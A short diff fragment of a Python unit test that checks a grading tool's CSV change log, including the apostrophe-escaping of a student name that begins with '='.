+    third = {"=ada": {"digest": "2", "points": {"q1": 0.0, "q7": 2.0}}}
+    records.log_changes(tmp_path, third, "marked")
+    rows = table(tmp_path / "changes.csv")
+    assert [(r["student"], r["question"], r["before"], r["after"], r["why"]) for r in rows] == [
+        ("'=ada", "q1", "", "3", "graded for the first time"),
+        ("'=ada", "q7", "", "2", "marked"),
+        ("'=ada", "q1", "3", "0", "another file counts"),
+    ]
